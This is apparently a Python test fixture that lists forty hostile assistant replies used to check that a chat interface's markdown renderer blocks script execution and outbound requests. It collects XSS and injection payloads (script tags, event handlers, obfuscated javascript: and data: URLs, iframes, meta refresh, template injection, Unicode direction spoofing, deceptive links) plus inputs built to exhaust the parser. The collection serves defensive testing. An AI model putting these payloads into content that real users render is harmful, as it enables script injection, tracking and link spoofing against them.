"""Forty hostile replies: functions from the address of the test server, which must get no request, to deltas."""


def one(template: str):
    return lambda address: [template.replace("ADDRESS", address)]


def many(piece: str, times: int, end: str = ""):
    return lambda address: [piece.replace("ADDRESS", address) * (times // 10) for _ in range(10)] + [end]


HOSTILE = [
    one("<script>window.ran = 1</script><script src='ADDRESS/beacon'></script>"),
    one("<img src=x onerror='window.ran = 1'><img src='ADDRESS/beacon'>"),
    one("![secret](ADDRESS/beacon?q=secret) and ![][1]\n\n[1]: ADDRESS/beacon"),
    one("[![nested](ADDRESS/beacon)](ADDRESS/beacon)"),
    one("[click](javascript:window.ran=1) [click](JaVaScRiPt:window.ran=1)"),
    one(
        "[click](java\tscript:window.ran=1) [click](java\u200bscript:window.ran=1)"
        " [click](\u0001javascript:window.ran=1)"
    ),
    one("[click](data:text/html,<script>window.ran=1</script>) ![x](data:image/svg+xml,<svg onload=window.ran=1>)"),
    one("[click](vbscript:msgbox(1)) [click](file:///etc/passwd) [click](blob:ADDRESS/1)"),
    one(
        "[click](javascript&#58;window.ran=1) [click](&#x6A;avascript:window.ran=1)"
        " &lt;script&gt;window.ran=1&lt;/script&gt;"
    ),
    one("[click](//ADDRESS/beacon) [click](/v1/models) [click](#/runs) [click](http:/x) [click](https:evil)"),
    one("<svg onload='window.ran=1'><use href='ADDRESS/beacon#x'/><script>window.ran=1</script></svg>"),
    one("<iframe src='ADDRESS/beacon'></iframe><iframe srcdoc='<script>parent.ran=1</script>'></iframe>"),
    one("<meta http-equiv=refresh content='0;url=ADDRESS/beacon'><base href='ADDRESS/beacon/'>"),
    one("<link rel=stylesheet href='ADDRESS/beacon'><style>body{background:url(ADDRESS/beacon)}</style>"),
    one("<form action='ADDRESS/beacon'><input name=q autofocus onfocus='window.ran=1'><button>Go</button></form>"),
    one(
        "<video src='ADDRESS/beacon' autoplay></video><audio src='ADDRESS/beacon'></audio>"
        "<object data='ADDRESS/beacon'></object><embed src='ADDRESS/beacon'>"
    ),
    one(
        "<a href='ADDRESS/beacon' ping='ADDRESS/beacon'>x</a>"
        " <details open ontoggle='window.ran=1'><summary>x</summary></details>"
    ),
    one(
        "<!-- <script>window.ran=1</script> --> <![CDATA[<script>window.ran=1</script>]]>"
        " <?xml-stylesheet href='ADDRESS/beacon'?>"
    ),
    one("```html\n<script>window.ran=1</script>\n``` \n`<img src=x onerror=window.ran=1>`"),
    one('```"onclick=window.ran=1 <img/src=x/onerror=window.ran=1>\nunclosed <script>window.ran=1</script>'),
    one("| <img src=ADDRESS/beacon> | b |\n|---|---|\n| ![x](ADDRESS/beacon) | [x](javascript:window.ran=1) |"),
    one(
        '[x](ADDRESS/ok"onmouseover="window.ran=1) [x](<ADDRESS/ok" onclick="window.ran=1>) <http://a"onclick=window.ran=1>'
    ),
    one("$<img src=x onerror=window.ran=1>$ \\(<script>window.ran=1</script>\\) $$\n<script>window.ran=1</script>\n$$"),
    one(
        "\u202etxet desrever\u202c \u2066isolated\u2069 https://example.com/\u202egpj.exe [gpj\u202e](https://example.com/x)"
    ),
    one(
        "zero\u200b\u200c\u200d\ufeffwidth "
        + "\u200b" * 5000
        + "e"
        + "\u0301" * 3000
        + " nul\u0000 bell\u0007 escape\u001b[31m"
    ),
    one(
        "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= window.ran=1 %> __proto__ [1] [constructor]"
    ),
    one(
        "<textarea></textarea><script>window.ran=1</script>"
        "<template><script>window.ran=1</script></template><noscript><img src=ADDRESS/beacon>"
    ),
    one("<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>"),
    one("[a](https://user:pass@example.com/) [https://bank.example](https://evil.example) <mailto:a@b.c?bcc=d@e.f>"),
    one("</article></main></body></html><script>window.ran=1</script><body onload=window.ran=1>"),
    many("*", 100_000),
    many("*a **b ", 20_000, "c** d*"),
    lambda address: ["*" * 30_000, "a", "*" * 30_000],
    many("[", 50_000, "](ADDRESS/beacon)"),
    many("> ", 50_000, "deep"),
    lambda address: ["".join(" " * (2 * n) + "- item\n" for n in range(400))],
    lambda address: ["| a " * 40 + "|\n" + "|---" * 40 + "|\n"] + ["| x *y* " * 40 + "|\n"] * 250,
    many("`` ` ``` ", 10_000),
    many("![](ADDRESS/beacon) <b> \\( $x ~~ __ ", 3_000),
    lambda address: (
        ["```\n"]
        + ["code without an end " * 50 + "\n"] * 200
        + ["# " + "#" * 20_000 + "x\n" + " " * 50_000 + "\n" + "-" * 50_000 + "x"]
    ),
]
assert len(HOSTILE) == 40
